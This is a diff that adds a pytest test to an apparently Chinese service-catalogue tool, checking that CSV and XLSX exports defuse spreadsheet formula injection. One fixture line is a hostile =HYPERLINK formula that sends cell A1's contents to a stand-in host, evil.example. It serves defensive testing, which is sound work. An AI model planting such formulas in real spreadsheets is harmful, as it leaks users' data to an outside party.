@@ -507,3 +507,28 @@ def test_demo_catalogue_reimports_unchanged(data_dir):
         assert "新增 0 条，更新 0 条" in result.output, result.output
     assert _counts(c)[:2] == before
     c.close()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_neutralises_formula_cells(conn, tmp_path, fmt):
+    """An approved cell like =HYPERLINK(…) comes out as text, never as a formula, and a
+    re-import of the export reads the same text back."""
+    path = tmp_path / "a.csv"
+    path.write_bytes(_csv(HEADER, ROWS))
+    import_catalogue(conn, path)
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    conn.execute("UPDATE catalogue_item SET basis = ?, publisher = '@SUM(1)' WHERE level2 = '办事指南'",
+                 (evil,))
+    data = export_catalogue(conn, COUNTY, fmt)
+    out = tmp_path / f"export.{fmt}"
+    out.write_bytes(data)
+    if fmt == "csv":
+        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+        assert "'" + evil in cells and "'@SUM(1)" in cells
+        assert not any(c.startswith(("=", "@", "+")) for c in cells)
+    else:
+        cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
+        assert [c.data_type for c in cells if c.value == evil] == ["s"]
+        assert not any(c.data_type == "f" for c in cells)
+    rows = read_catalogue(out, domains=DOMAINS)
+    assert {r.basis for r in rows if r.level2 == "办事指南"} == {evil}
